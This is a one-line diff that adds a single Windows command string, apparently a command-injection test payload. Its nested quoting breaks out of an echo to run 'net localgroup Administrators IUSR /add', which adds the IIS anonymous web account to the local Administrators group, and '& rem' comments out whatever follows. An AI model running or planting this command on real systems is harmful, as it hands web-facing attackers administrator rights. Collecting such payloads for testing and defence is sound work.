@@ -1,0 +1,1 @@
+cmd /c "echo "net localgroup Administrators IUSR /add & rem""
